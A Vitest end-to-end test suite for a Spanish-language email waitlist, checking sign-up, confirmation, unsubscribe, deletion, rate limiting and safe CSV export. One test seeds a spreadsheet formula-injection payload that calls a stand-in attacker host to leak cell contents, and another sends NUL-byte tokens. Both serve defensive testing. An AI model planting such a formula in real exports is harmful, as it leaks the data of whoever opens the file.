/**
 * "Avisarme cuando esté listo" end to end, over HTTP, through a real SMTP server, on the
 * embedded database and on a real PostgreSQL: sign-up → mail → confirm page → confirmed in
 * the export; one-click unsubscribe; the delete link; and every refusal.
 */
import { createHash } from "node:crypto";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { parseEnv } from "~/lib/server/parse-env.server";
import { counterKeyWith } from "~/lib/storage/counter-key";
import { openStorage } from "~/lib/storage/open-storage.server";
import { freePort, ROOT, startAppServer, TEST_FORM_SECRET, type AppServer } from "../support/app-server";
import { opsCommand } from "../support/ops-command";
import { startSmtpServer, type SmtpServer } from "../support/smtp-server";
import {
  DATABASE_KINDS,
  exportWaitlist,
  exportWaitlistCsv,
  linksIn,
  mailsMentioning,
  mailsTo,
  openMailLink,
  postForm,
  postSignUp,
  SPELLINGS_OF_ONE_INBOX,
  useDatabase,
  type SignUp,
} from "../support/waitlist";
import { rawRequest } from "../support/raw-http";
import { decodeSingleFetch } from "../support/single-fetch";
import { decodeEntities } from "../support/html-entities";

const ACCEPTED = "te llega un email para confirmarla";

/** The text of the page's status message (the form's answer without JavaScript). */
function statusMessage(html: string): string {
  return html.match(/data-testid="notify-status"[^>]*>([^<]*)</)?.[1] ?? "";
}

/** The mail page's button form: where it posts. */
function formAction(html: string): string {
  const action = html.match(/<form[^>]*method="post"[^>]*action="([^"]+)"/)?.[1];
  if (!action) throw new Error("no form on the page");
  return decodeEntities(action);
}

describe.each(DATABASE_KINDS)("the waitlist on the %s database", (kind) => {
  const database = useDatabase(kind);
  let smtp: SmtpServer;
  let app: AppServer;
  let port: number;

  const start = async () => {
    app = await startAppServer({ ...database.env, SMTP_URL: smtp.url, SITE_URL: `http://127.0.0.1:${port}` }, { port });
  };
  const signUp = async (submission: SignUp) => {
    const response = await postSignUp(app, submission);
    return { status: response.status, headers: response.headers, html: await response.text() };
  };

  beforeAll(async () => {
    smtp = await startSmtpServer();
    port = await freePort();
    await start();
  });
  afterAll(async () => {
    await app?.stop();
    await smtp?.close();
  });

  it("signs up, mails a confirm link, confirms only on the button's POST, and exports the address as confirmed", async () => {
    const answer = await signUp({ email: "  Ana.Perez@Example.com ", client: "198.51.100.1" });
    expect(answer.status).toBe(200);
    expect(answer.headers.get("cache-control")).toBe("no-store");
    expect(statusMessage(answer.html)).toContain(ACCEPTED);

    const [mail] = await mailsTo(smtp, "ana.perez@example.com");
    expect(mail!.subject).toBe("Confirmá tu email para el aviso de Opinion Labz");
    expect(mail!.headers.get("from")).toBe(`Opinion Labz <hola@127.0.0.1>`);
    const { confirm, leave } = linksIn(mail!);
    expect(confirm.startsWith(`http://127.0.0.1:${port}/`)).toBe(true);
    expect(mail!.headers.get("list-unsubscribe")).toBe(`<${leave}>`);
    expect(mail!.headers.get("list-unsubscribe-post")).toBe("List-Unsubscribe=One-Click");
    expect(mail!.text).toContain("7 días");

    // Opening the link, as a mail scanner does, changes nothing.
    const opened = await openMailLink(confirm);
    expect(opened.page.status).toBe(200);
    expect(opened.html).toContain("Confirmar mi email");
    expect(await exportWaitlist(database.env)).toEqual([
      expect.objectContaining({ email: "ana.perez@example.com", status: "pending", confirmed_at: "" }),
    ]);

    const confirmed = await opened.press();
    expect(confirmed.status).toBe(200);
    // The link is spent, and so is the cookie that carried its token.
    expect(confirmed.headers.get("set-cookie")).toBe(
      "aviso-confirmar=; Max-Age=0; Path=/avisos; HttpOnly; SameSite=Lax",
    );
    const confirmedHtml = await confirmed.text();
    expect(confirmedHtml).toContain("confirmaste tu email");
    // After confirming, the heading no longer asks to confirm.
    expect(confirmedHtml).toMatch(/<h1[^>]*>Email confirmado<\/h1>/);
    const [row] = await exportWaitlist(database.env);
    expect(row).toMatchObject({ email: "ana.perez@example.com", status: "confirmed" });
    expect(Date.parse(row!.confirmed_at)).toBeGreaterThanOrEqual(Date.parse(row!.subscribed_at));
  });

  it("makes a mail link's page for its own token alone: never stored, never shared, never in the address", async () => {
    const refusesFraming = (response: Response) => {
      expect(response.headers.get("x-frame-options")).toBe("DENY");
      expect(response.headers.get("content-security-policy")).toContain("frame-ancestors 'none'");
    };
    for (const path of ["/avisos/confirmar", "/avisos/baja"]) {
      for (const token of ["token-de-ana", "token-de-bruno"]) {
        const link = await fetch(`${app.origin}${path}?t=${token}`, { redirect: "manual" });
        expect(link.status, path).toBe(303);
        expect(link.headers.get("location"), path).toBe(`${path}?t=${token}&c=1`);
        expect(link.headers.get("cache-control"), path).toBe("no-store");
        refusesFraming(link);
        // For an hour, to the mail links' pages only, out of reach of scripts and other sites' requests.
        const setCookie = link.headers.get("set-cookie") ?? "";
        expect(setCookie, path).toMatch(/; Max-Age=3600; Path=\/avisos; HttpOnly; SameSite=Lax$/);
        const cookie = setCookie.split(";")[0]!;
        const check = await fetch(`${app.origin}${path}?t=${token}&c=1`, { headers: { cookie }, redirect: "manual" });
        expect(check.status, path).toBe(303);
        expect(check.headers.get("location"), path).toBe(path);
        expect(check.headers.get("cache-control"), path).toBe("no-store");
        const page = await fetch(`${app.origin}${path}`, { headers: { cookie } });
        expect(page.headers.get("cache-control"), path).toBe("no-store");
        expect(page.headers.get("x-robots-tag"), path).toBeNull();
        const html = await page.text();
        expect(formAction(html), path).toBe(path);
        expect(html, `${path} for ${token}`).toContain(`<input type="hidden" name="t" value="${token}"/>`);
      }
      // Without the cookie the page is the same for everyone, so search engines may list it.
      const bare = await (await fetch(`${app.origin}${path}`)).text();
      expect(bare).toContain("Este enlace está incompleto");
      expect(bare).not.toContain("<form");
      expect(bare).not.toContain('name="robots"');
      expect(bare).toMatch(new RegExp(`<link rel="canonical" href="http://[^"/]+${path}"/>`));
    }
  });

  it("opens a link's page at the link's own address, unlisted, where the cookie does not come back", async () => {
    // A browser that blocks cookies, or a CDN that forwards none, at the check; a GET that
    // declares a body at once; a token longer than any of ours (256 characters) is not carried.
    const long = "x".repeat(257);
    for (const [target, headers] of [
      ["/avisos/baja?t=token-de-carla&c=1", {}],
      ["/avisos/confirmar?t=token-de-carla", { "content-length": "0" }],
      [`/avisos/baja?t=${long}`, {}],
    ] as const) {
      const page = await rawRequest(app.origin, target, { method: "GET", headers });
      expect(page.status, target).toBe(200);
      expect(page.headers["set-cookie"], target).toBeUndefined();
      expect(page.headers["cache-control"], target).toBe("no-store");
      expect(page.headers["x-robots-tag"], target).toBe("noindex");
      const token = new URL(target, app.origin).searchParams.get("t");
      expect(page.body.toString(), target).toContain(`<input type="hidden" name="t" value="${token}"/>`);
    }
    const carried = await fetch(`${app.origin}/avisos/baja?t=${"x".repeat(256)}`, { redirect: "manual" });
    expect(carried.headers.get("set-cookie")).toMatch(/^aviso-baja=/);
  });

  it("answers a known address exactly as a new one, and mails it at most once a day", async () => {
    const first = await signUp({ email: "bruno@example.com", client: "198.51.100.2" });
    await mailsTo(smtp, "bruno@example.com");
    const again = await signUp({ email: "bruno@example.com", client: "198.51.100.2" });
    const confirmedAlready = await signUp({ email: "ana.perez@example.com", client: "198.51.100.2" });
    expect([again.status, confirmedAlready.status]).toEqual([first.status, first.status]);
    expect(statusMessage(again.html)).toBe(statusMessage(first.html));
    expect(statusMessage(confirmedAlready.html)).toBe(statusMessage(first.html));
    // A control address signed up after them: once its mail is in, any mail they queued would be too.
    await signUp({ email: "control-1@example.com", client: "198.51.100.2" });
    await mailsTo(smtp, "control-1@example.com");
    expect(smtp.mails().filter((mail) => mail.to === "bruno@example.com")).toHaveLength(1);
    expect(smtp.mails().filter((mail) => mail.to === "ana.perez@example.com")).toHaveLength(1);
  });

  it("refuses every other spelling of an inbox: one mail reaches it, to the address that was checked", async () => {
    expect((await signUp({ email: "Victim@Example.com", client: "198.51.100.20" })).status).toBe(200);
    for (const [index, email] of SPELLINGS_OF_ONE_INBOX.entries()) {
      const answer = await signUp({ email, client: `198.51.100.${21 + index}` });
      expect(answer.status, email).toBe(400);
      expect(statusMessage(answer.html), email).toContain("no parece válido");
    }
    await signUp({ email: "control-spellings@example.com", client: "198.51.100.20" });
    await mailsTo(smtp, "control-spellings@example.com");
    expect(mailsMentioning(smtp, "victim").map((mail) => mail.to)).toEqual(["victim@example.com"]);
    expect((await exportWaitlist(database.env)).filter((row) => row.email.includes("victim"))).toHaveLength(1);
  });

  it("stores and mails an internationalised domain in punycode, lower-cased", async () => {
    expect((await signUp({ email: "Pepa@Ñandú.Example", client: "198.51.100.19" })).status).toBe(200);
    await mailsTo(smtp, "pepa@xn--and-6ma2c.example");
    expect((await exportWaitlist(database.env)).map((row) => row.email)).toContain("pepa@xn--and-6ma2c.example");
  });

  it("past a quarter of the hour's mails, tells a sign-up without JavaScript to try later (403, nothing stored), counts the hour in npm run status, and contact still reaches support", async () => {
    const ceilingDatabase = await database.another();
    const ceiling = await startAppServer({
      ...ceilingDatabase,
      SMTP_URL: smtp.url,
      FORM_MAILS_PER_HOUR: "2",
      CONTACT_EMAIL: "soporte-techo@opinionlabz.test",
    });
    try {
      // The hour's mails to visitors as the organizer reads them.
      const visitorMails = async () =>
        (await opsCommand("status", [], ceilingDatabase)).stdout.match(/A visitantes: \d+ de \d+/)?.[0];
      expect(await visitorMails()).toBe("A visitantes: 0 de 2");
      expect((await postSignUp(ceiling, { email: "techo-1@uno.example", client: "198.51.100.40" })).status).toBe(200);
      // Two an hour: from one mail queued the forms ask for a proof of work, which a browser
      // without JavaScript cannot work out.
      const later = await postSignUp(ceiling, { email: "techo-2@dos.example", client: "198.51.101.43" });
      expect(later.status).toBe(403);
      expect(statusMessage(await later.text())).toBe(
        "En este momento recibimos muchos envíos y sin JavaScript no podemos verificar el tuyo. Probá de nuevo más tarde, o activá JavaScript y volvé a enviarlo.",
      );
      expect(await visitorMails()).toBe("A visitantes: 1 de 2");
      expect(ceiling.output()).toContain('"event":"forms.proof_asked","form":"waitlist","scripted":false');
      expect(ceiling.output()).not.toContain('"status":503');

      const contact = await postForm(
        ceiling,
        "/contacto",
        { nombre: "Tina", email: "techo-4@cuatro.example", mensaje: "Hola" },
        { client: "198.51.102.42" },
      );
      expect(contact.status).toBe(200);
      const [toSupport] = await mailsTo(smtp, "soporte-techo@opinionlabz.test");
      expect(toSupport!.headers.get("reply-to")).toBe("techo-4@cuatro.example");
      await mailsTo(smtp, "techo-1@uno.example");
      // The acknowledgement waits for the hour's pace: one at once, the other an hour later.
      expect(mailsMentioning(smtp, "techo-").map((mail) => mail.to)).toEqual(["techo-1@uno.example"]);
      expect((await exportWaitlist(ceilingDatabase)).map((row) => row.email)).toEqual(["techo-1@uno.example"]);
    } finally {
      await ceiling.stop();
    }
  });

  it("unsubscribes with the mail client's one-click POST (RFC 8058)", async () => {
    await signUp({ email: "carla@example.com", client: "198.51.100.3" });
    const [mail] = await mailsTo(smtp, "carla@example.com");
    const target = mail!.headers.get("list-unsubscribe")!.slice(1, -1);
    const response = await fetch(target, {
      method: "POST",
      headers: { "content-type": "application/x-www-form-urlencoded" },
      body: "List-Unsubscribe=One-Click",
    });
    expect(response.status).toBe(200);
    const rows = await exportWaitlist(database.env);
    expect(rows.find((row) => row.email === "carla@example.com")).toMatchObject({ status: "unsubscribed" });
  });

  it("offers 'Avisarme de cada sorteo' unticked on the form and the confirm page, keeps it per address, and the unsubscribe link revokes it", async () => {
    const optIn = /<input id="[^"]+" name="avisos_sorteo" type="checkbox"[^>]*value="si"[^>]*>/;
    const form = await (await fetch(`${app.origin}/encuesta`)).text();
    expect(form).toMatch(optIn);
    expect(form.match(optIn)![0]).not.toContain("checked");
    expect(form).toContain("Avisarme de cada sorteo");
    const asked = async (email: string) => {
      const { db } = await openStorage(parseEnv(database.env, ROOT).database);
      try {
        const row = await db
          .selectFrom("waitlist")
          .select("draw_notices_at")
          .where("email", "=", email)
          .executeTakeFirstOrThrow();
        return row.draw_notices_at !== null;
      } finally {
        await db.destroy();
      }
    };
    // Ticked on the form, on the confirm page, or on neither.
    for (const [email, onForm, onPage, expected] of [
      ["gina.avisos@example.com", true, false, true],
      ["hugo.avisos@example.com", false, true, true],
      ["ines.avisos@example.com", false, false, false],
    ] as const) {
      await signUp({ email, client: "198.51.100.5", drawNotices: onForm });
      const [mail] = await mailsTo(smtp, email);
      const opened = await openMailLink(linksIn(mail!).confirm);
      expect(opened.html).toMatch(optIn);
      expect((await opened.press(onPage ? { avisos_sorteo: "si" } : {})).status).toBe(200);
      expect(await asked(email), email).toBe(expected);
    }
    // The list's own unsubscribe link takes the draw notices with it.
    const [mail] = await mailsTo(smtp, "gina.avisos@example.com");
    const target = mail!.headers.get("list-unsubscribe")!.slice(1, -1);
    await fetch(target, {
      method: "POST",
      headers: { "content-type": "application/x-www-form-urlencoded" },
      body: "List-Unsubscribe=One-Click",
    });
    expect(await asked("gina.avisos@example.com")).toBe(false);
  });

  it("deletes the mailbox with the link in the mail, after the page's button, with every mail to any of its spellings", async () => {
    await signUp({ email: "dario@example.com", client: "198.51.100.4" });
    const [mail] = await mailsTo(smtp, "dario@example.com");
    // A message from another spelling of the same inbox: its acknowledgement is a mail to it.
    const contact = await postForm(
      app,
      "/contacto",
      { nombre: "Darío", email: "dario+consulta@example.com", mensaje: "Hola" },
      { client: "198.51.100.4" },
    );
    expect(contact.status).toBe(200);
    await mailsTo(smtp, "dario+consulta@example.com");
    const mailsToDario = async () => {
      const storage = await openStorage(parseEnv(database.env, ROOT).database);
      try {
        return (
          await storage.db
            .selectFrom("outbox")
            .select(["recipient", "reply_to"])
            .where("recipient", "like", "dario%")
            .execute()
        ).map((row) => row.recipient);
      } finally {
        await storage.db.destroy();
      }
    };
    expect((await mailsToDario()).sort(), "the outbox before the delete").toEqual([
      "dario+consulta@example.com",
      "dario@example.com",
    ]);

    const { leave } = linksIn(mail!);
    const opened = await openMailLink(leave);
    expect(opened.html).toContain("Borrar mi email");
    expect((await exportWaitlist(database.env)).map((row) => row.email)).toContain("dario@example.com");
    const deleted = await opened.press();
    expect(deleted.status).toBe(200);
    expect(deleted.headers.get("set-cookie")).toBe("aviso-baja=; Max-Age=0; Path=/avisos; HttpOnly; SameSite=Lax");
    expect(await deleted.text()).toContain("borramos tu email");
    expect((await exportWaitlist(database.env)).map((row) => row.email)).not.toContain("dario@example.com");
    expect(await mailsToDario(), "the outbox after the delete").toEqual([]);

    // "No te vamos a escribir más": a stranger signing the inbox up again, in any spelling, gets
    // the usual answer, and nothing is kept or sent (for 30 days: test/server/unsubscribed.test.ts).
    const first = await signUp({ email: "vecino@example.com", client: "198.51.100.5" });
    for (const email of ["dario@example.com", "Dario+otra@example.com"]) {
      const again = await signUp({ email, client: "198.51.100.5" });
      expect(again.status, email).toBe(200);
      expect(statusMessage(again.html), email).toBe(statusMessage(first.html));
    }
    // The one answer stays true for the deleted inbox too: it says when no mail is sent.
    expect(statusMessage(first.html)).toContain("Si la dirección puede recibir nuestros emails");
    expect(statusMessage(first.html)).toContain("si pidieron borrarla hace menos de 30 días");
    await signUp({ email: "control-borrado@example.com", client: "198.51.100.5" });
    await mailsTo(smtp, "control-borrado@example.com");
    // (The sink lists its mailbox by file name, not by arrival.)
    expect(
      mailsMentioning(smtp, "dario")
        .map((mail) => mail.to)
        .sort(),
    ).toEqual(["dario+consulta@example.com", "dario@example.com"]);
    expect((await exportWaitlist(database.env)).filter((row) => row.email.startsWith("dario"))).toEqual([]);
  });

  it("mails one confirmation to one Gmail inbox however it is spelt: 30 spellings, 30 clients, one mail", async () => {
    const spellings = [
      "victima@gmail.com",
      ...Array.from({ length: 20 }, (_, index) => `victima+${index + 1}@gmail.com`),
      "v.ictima@gmail.com",
      "vi.ctima@gmail.com",
      "vic.tima@gmail.com",
      "vict.ima@gmail.com",
      "victi.ma@gmail.com",
      "v.i.c.t.i.m.a@gmail.com",
      "V.I.C.T.I.M.A+Z@gmail.com",
      "victima@googlemail.com",
      "v.ictima+sorteo@googlemail.com",
    ];
    expect(new Set(spellings).size).toBe(30);
    const answers = new Set<string>();
    for (const [index, email] of spellings.entries()) {
      const answer = await signUp({ email, client: `198.51.101.${index + 1}` });
      expect(answer.status, email).toBe(200);
      answers.add(statusMessage(answer.html));
    }
    // Every spelling got the same answer: none says the inbox was known.
    expect([...answers]).toHaveLength(1);
    await signUp({ email: "control-gmail@example.com", client: "198.51.101.100" });
    await mailsTo(smtp, "control-gmail@example.com");
    const toTheInbox = smtp.mails().filter((mail) => /^v\.?i\.?c\.?t\.?i\.?m\.?a/i.test(mail.to));
    expect(toTheInbox.map((mail) => mail.to)).toEqual(["victima@gmail.com"]);
    expect((await exportWaitlist(database.env)).filter((row) => /victima|v\.ic/.test(row.email))).toHaveLength(1);
  });

  it.each([
    ["an address with no domain", { email: "elena@" }, "no parece válido"],
    ["an address with a space", { email: "elena perez@example.com" }, "no parece válido"],
    ["an address over 254 characters", { email: `${"e".repeat(60)}@${"x".repeat(190)}.com` }, "no parece válido"],
    ["an empty address", { email: "   " }, "Escribí tu email"],
    ["no consent", { email: "elena@example.com", consent: false }, "marcá la casilla"],
    ["the honeypot filled in", { email: "elena@example.com", honeypot: "https://spam.example" }, "No pudimos enviar"],
    [
      "a form sent half a second after the page",
      { email: "elena@example.com", filledInMs: 500 },
      "Esperá unos segundos",
    ],
    // A person who presses the button at once with the field empty is asked for the address.
    ["an empty address sent at once", { email: " ", filledInMs: 300 }, "Escribí tu email para que podamos avisarte"],
    // A stamp the server signed for a minute from now: a replica's clock ahead, or a replay.
    [
      "a form whose page is dated a minute in the future",
      { email: "elena@example.com", filledInMs: -60_000 },
      "Esperá unos segundos",
    ],
    // A page is good to send for 24 hours; a stamp kept longer (a year, copied by a bot) is not.
    [
      "a form whose page was rendered 24 hours and a minute ago",
      { email: "elena@example.com", filledInMs: (24 * 60 + 1) * 60_000 },
      "Recargá la página",
    ],
    [
      "a form whose page was rendered a year ago",
      { email: "elena@example.com", filledInMs: 365 * 24 * 60 * 60_000 },
      "Recargá la página",
    ],
  ])(
    "refuses %s with a 400 and a Spanish message, keeps what was typed, stores and sends nothing",
    async (_, submission, message) => {
      const answer = await signUp({ ...submission, client: "198.51.100.5" });
      expect(answer.status).toBe(400);
      expect(answer.headers.get("cache-control")).toBe("no-store");
      expect(statusMessage(answer.html)).toContain(message);
      if (submission.email.trim()) expect(answer.html).toContain(`value="${submission.email}"`);
      const control = `control-${submission.email.length}-${message.length}@example.com`;
      await signUp({ email: control, client: "198.51.100.6" });
      await mailsTo(smtp, control);
      expect(smtp.mails().filter((mail) => mail.to.startsWith("elena"))).toEqual([]);
      expect((await exportWaitlist(database.env)).filter((row) => row.email.startsWith("elena"))).toEqual([]);
    },
  );

  it("answers a body that is no form with a 400 and a Spanish message, and stores and sends nothing", async () => {
    const post = (pathname: string, headers: Record<string, string>, body?: string) =>
      fetch(`${app.origin}${pathname}`, {
        method: "POST",
        headers: { "x-forwarded-for": "198.51.100.9", ...headers },
        body,
      });
    const json = await post(
      "/encuesta",
      { "content-type": "application/json" },
      JSON.stringify({ email: "hugo@example.com", consentimiento: "si" }),
    );
    expect(json.status).toBe(400);
    expect(statusMessage(await json.text())).toContain("No pudimos enviar el formulario");
    const inPlace = await post("/encuesta.data", { "content-type": "text/plain" }, "hugo");
    expect(inPlace.status).toBe(400);
    expect(await decodeSingleFetch(inPlace.body!)).toMatchObject({
      data: { ok: false, message: expect.stringContaining("No pudimos enviar") },
    });

    await signUp({ email: "hugo@example.com", client: "198.51.100.9" });
    const { leave } = linksIn((await mailsTo(smtp, "hugo@example.com"))[0]!);
    const notAForm = await post(
      new URL(leave).pathname + new URL(leave).search,
      { "content-type": "application/json" },
      "{}",
    );
    expect(notAForm.status).toBe(400);
    expect(await notAForm.text()).toContain("No pudimos enviar el formulario");
    expect((await exportWaitlist(database.env)).filter((row) => row.email === "hugo@example.com")).toEqual([
      expect.objectContaining({ status: "pending" }),
    ]);
    expect(smtp.mails().filter((mail) => mail.to === "hugo@example.com")).toHaveLength(1);
  });

  it("answers the form Remix posts with JavaScript with the answer alone: the action's status, never stored", async () => {
    const client = "198.51.100.8";
    const refused = await postSignUp(app, { email: "gala@", client, dataRequest: true });
    expect(refused.status).toBe(400);
    expect(refused.headers.get("content-type")).toMatch(/^text\/x-script\b/);
    expect(refused.headers.get("cache-control")).toBe("no-store");
    expect(await decodeSingleFetch(refused.body!)).toEqual({
      data: {
        ok: false,
        field: "email",
        message: expect.stringContaining("no parece válido"),
        values: { email: "gala@" },
      },
    });
    const accepted = await postSignUp(app, { email: "gala@example.com", client, dataRequest: true });
    expect(accepted.status).toBe(200);
    expect(accepted.headers.get("cache-control")).toBe("no-store");
    expect(await decodeSingleFetch(accepted.body!)).toEqual({
      data: { ok: true, message: expect.stringContaining(ACCEPTED) },
    });
    await mailsTo(smtp, "gala@example.com");
  });

  it("accepts a form sent 3 seconds after the page was rendered, and one sent 23 hours and 59 minutes after", async () => {
    const answer = await signUp({ email: "fabian@example.com", filledInMs: 3000, client: "198.51.100.7" });
    expect(answer.status).toBe(200);
    await mailsTo(smtp, "fabian@example.com");
    const late = await signUp({
      email: "fabiana@example.com",
      filledInMs: (23 * 60 + 59) * 60_000,
      client: "198.51.100.7",
    });
    expect(late.status).toBe(200);
    await mailsTo(smtp, "fabiana@example.com");
  });

  it("answers a mail link whose token is not of our shape (a NUL, cut short) as an unknown link: no query, no error", async () => {
    const from = app.output().length;
    for (const token of ["%00", `${"a".repeat(31)}%00`, "a".repeat(31), `${"a".repeat(32)}=`]) {
      const confirm = await fetch(`${app.origin}/avisos/confirmar?t=${token}`, { method: "POST" });
      expect(confirm.status, token).toBe(410);
      expect(await confirm.text()).toContain("Este enlace venció o ya no es válido");
      const leave = await fetch(`${app.origin}/avisos/baja?t=${token}`, { method: "POST" });
      expect(leave.status, token).toBe(200);
      expect(await leave.text()).toContain("borramos tu email");
      const oneClick = await fetch(`${app.origin}/avisos/baja?t=${token}`, {
        method: "POST",
        headers: { "content-type": "application/x-www-form-urlencoded" },
        body: "List-Unsubscribe=One-Click",
      });
      expect(oneClick.status, token).toBe(200);
    }
    // PostgreSQL refuses a NUL in text with an error; nothing reached it, so nothing was logged.
    expect(app.output().slice(from)).not.toMatch(/invalid byte sequence|Error|\n\s+at /);
  });

  it("counts a client under a key made with the site's secret: a copy of the database does not give its address back", async () => {
    const client = "203.0.113.77";
    expect((await signUp({ email: "clave@example.com", client })).status).toBe(200);
    const storage = await openStorage(parseEnv(database.env, ROOT).database);
    try {
      const keys = (await storage.db.selectFrom("rate_limits").select("key").execute()).map((row) => row.key);
      expect(keys).toContain(counterKeyWith(TEST_FORM_SECRET, "waitlist", client));
      // Hashing every IPv4 address (a few minutes' work) finds no unkeyed hash of this one.
      const unkeyed = createHash("sha256").update(client).digest("base64url").slice(0, 22);
      expect(keys.filter((key) => key.includes(unkeyed))).toEqual([]);
    } finally {
      await storage.db.destroy();
    }
  });

  it("takes 30 sign-ups in 10 minutes from one client, then says to wait; other clients go on", async () => {
    const client = "203.0.113.30";
    for (let i = 1; i <= 30; i++) {
      expect((await signUp({ email: `familia-${i}@example.com`, client })).status).toBe(200);
    }
    const refused = await signUp({ email: "familia-31@example.com", client });
    expect(refused.status).toBe(429);
    expect(statusMessage(refused.html)).toContain("Esperá unos minutos");
    expect(refused.html).toContain('value="familia-31@example.com"');
    expect((await signUp({ email: "vecina@example.com", client: "203.0.113.31" })).status).toBe(200);
    await mailsTo(smtp, "vecina@example.com");
    expect(smtp.mails().filter((mail) => mail.to === "familia-31@example.com")).toEqual([]);
    expect((await exportWaitlist(database.env)).map((row) => row.email)).not.toContain("familia-31@example.com");
  });

  it("exports an address that looks like a formula as text: npm run waitlist:export neutralises =, +, -, @, tab and CR", async () => {
    const hostile = [
      '=HYPERLINK("https://evil.example/?"&A2&A3&"@x.y","Ver")',
      "+1@example.com",
      "-1@example.com",
      "@formula@example.com",
      "\tfirst@example.com",
      "\rsecond@example.com",
    ];
    // Rows stored before the address parser refused such text: the export must still be safe to open.
    const storage = await openStorage(parseEnv(database.env, ROOT).database);
    try {
      const now = Date.now();
      await storage.db
        .insertInto("waitlist")
        .values(
          hostile.map((email, index) => ({
            email,
            status: "pending" as const,
            token: `formula-${index}`,
            subscribed_at: now,
            confirmed_at: null,
            unsubscribed_at: null,
            confirm_expires_at: now + 24 * 60 * 60 * 1000,
            last_mail_at: now,
          })),
        )
        .execute();
    } finally {
      await storage.db.destroy();
    }
    const csv = await exportWaitlistCsv(database.env);
    expect(csv).toContain(`"'=HYPERLINK(""https://evil.example/?""&A2&A3&""@x.y"",""Ver"")",pending,`);
    const exported = (await exportWaitlist(database.env)).map((row) => row.email);
    for (const email of hostile) expect(exported).toContain(`'${email}`);
    // No cell of the file starts a formula.
    for (const line of csv.split("\n")) {
      for (const cell of line.split(",")) expect(cell, line).not.toMatch(/^["]?[=+\-@\t\r]/);
    }
  });

  it("keeps sign-ups across a restart: a link mailed before it still confirms after", async () => {
    await signUp({ email: "gabriela@example.com", client: "198.51.100.8" });
    const [mail] = await mailsTo(smtp, "gabriela@example.com");
    await app.stop();
    await start();
    const { confirm } = linksIn(mail!);
    const confirmed = await (await openMailLink(confirm)).press();
    expect(confirmed.status).toBe(200);
    const rows = await exportWaitlist(database.env);
    expect(rows.find((row) => row.email === "ana.perez@example.com")).toMatchObject({ status: "confirmed" });
    expect(rows.find((row) => row.email === "gabriela@example.com")).toMatchObject({ status: "confirmed" });
  });
});
